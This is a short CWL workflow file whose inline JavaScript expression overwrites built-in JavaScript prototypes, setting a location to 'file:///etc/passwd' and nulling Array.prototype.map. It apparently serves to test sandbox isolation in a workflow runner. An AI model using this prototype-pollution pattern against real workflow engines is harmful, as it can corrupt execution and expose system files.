cwlVersion: v1.2
class: ExpressionTool
requirements: {InlineJavascriptRequirement: {}}
inputs: []
outputs: {out: Any}
expression: |
  ${
    Object.prototype.location = "file:///etc/passwd"; Array.prototype.map = null; return {out: "done"};
  }
